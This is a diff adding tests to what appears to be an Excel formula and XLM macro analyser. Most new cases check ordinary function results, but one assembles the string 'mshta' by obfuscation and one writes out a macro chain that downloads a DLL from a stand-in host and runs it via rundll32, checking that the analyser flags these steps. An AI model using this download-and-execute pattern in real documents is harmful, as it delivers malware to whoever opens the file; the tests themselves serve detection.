@@ -78,6 +78,36 @@ def value(formula: str, *others: Sheet, cells: Cells | None = None) -> Any:
         ('SEARCH("win","Windows")', 1.0),
         ('ISNUMBER(SEARCH("32","x64"))', False),
         ('LEN("abc")', 3.0),
+        ("LET(x,5,y,x+1,x*y)", 30.0),
+        ('LAMBDA(a,b,a&b)("c","d")', "cd"),
+        ("LET(f,LAMBDA(_xlpm.n,_xlpm.n*2),f(4))", 8.0),
+        ("LET(f,LAMBDA(g,n,IF(n=0,1,n*g(g,n-1))),f(f,5))", 120.0),
+        ("LET(f,LAMBDA(x,y,IF(ISOMITTED(y),x,y)),f(3))", 3.0),
+        ("CONCAT(MAP({109,115},LAMBDA(v,CHAR(v))))", "ms"),
+        ('REDUCE("",{109;115},LAMBDA(a,b,a&CHAR(b)))', "ms"),
+        ('TEXTJOIN("",TRUE,LET(x,{108,114},CHAR(x+1)))', "ms"),
+        ("INDEX(SCAN(0,{1,2,3},LAMBDA(a,b,a+b)),3)", 6.0),
+        ("SUM(MAKEARRAY(2,2,LAMBDA(r,c,r*10+c)))", 66.0),
+        ("SUM(BYROW({1,2;3,4},LAMBDA(r,SUM(r))))", 10.0),
+        ("INDEX(WRAPROWS({1,2,3,4},2),2,1)", 3.0),
+        ("CONCAT(DROP(TAKE({1,2,3,4},1,3),0,1))", "23"),
+        ("CONCAT(VSTACK({1,2},HSTACK(3,4)))", "1234"),
+        ('CONCAT(SORTBY({"b","a"},{2,1}))', "ab"),
+        ("SUM(MMULT({1,2},{3;4}))", 11.0),
+        ('TEXTBEFORE("a-b-c","-",2)&TEXTAFTER("a-b-c","-",-1)', "a-bc"),
+        ('CONCAT(TEXTSPLIT("msxhxta","x"))', "mshta"),
+        ('INDEX(TEXTSPLIT("a,b;c",",",";"),1,2)', "b"),
+        # Dates: values of Microsoft's reference.
+        ("NETWORKDAYS(DATE(2012,10,1),DATE(2013,3,1))", 110.0),
+        ('NETWORKDAYS.INTL(DATE(2006,1,1),DATE(2006,2,1),"0010001",{"2006/1/2","2006/1/16"})', 20.0),
+        ("WORKDAY(DATE(2008,10,1),151)", 39933.0),
+        ("WORKDAY.INTL(DATE(2012,1,1),90,11)", 41013.0),
+        ('DAYS("15-MAR-2021","1-FEB-2021")', 42.0),
+        ("DAYS360(DATE(2011,1,30),DATE(2011,2,1))", 1.0),
+        ("ROUND(YEARFRAC(DATE(2012,1,1),DATE(2012,7,30),1),8)", 0.57650273),
+        ('DATEDIF(DATE(2001,6,1),DATE(2002,8,15),"YD")', 75.0),
+        ("ISOWEEKNUM(DATE(2012,3,9))", 10.0),
+        ('DATEVALUE("4/9/1900")', 100.0),
         ('UPPER("abc")&LOWER("ABC")&PROPER("ab cd")', "ABCabcAb Cd"),
         ('TRIM("  a  b ")', "a b"),
         ('EXACT("a","A")', False),
@@ -424,3 +454,22 @@ def test_any_sheet(lines: list[Any]) -> None:
 
 def test_shown() -> None:
     assert [shown(v) for v in (1.0, 'a"b', True, None, 0.1)] == ["1", '"a""b"', "TRUE", "", "0.1"]
+
+
+def test_functions_by_number_show_by_what_they_are_given() -> None:
+    items = run(
+        book(
+            {
+                "A1": '=CALL("urlmon",105,"JJCCJJ",0,"http://a.example.test/x.dll","C:\\a.dll",0,0)',
+                "A2": '=REGISTER("C:\\Windows\\System32\\shell32.dll",299,"JJCCCCJ","Run1",,1,9)',
+                "A3": '=Run1(0,"open","rundll32","C:\\a.dll,x","",0)',
+                "A4": '=CALL("ws2_32",115,"JJJ",2,0)',
+                "A5": '=CALL("Kernel32",777,"JC","odd")',
+                "A6": "=HALT()",
+            }
+        )
+    )
+    assert facts(items, "effect.download") == ["http://a.example.test/x.dll"]
+    assert facts(items, "effect.run") == ["rundll32 C:\\a.dll,x"]
+    assert "ws2_32!WSAStartup" in facts(items, "xlm.register")
+    assert facts(items, "eval.unmodelled") == ["Kernel32!#777"]
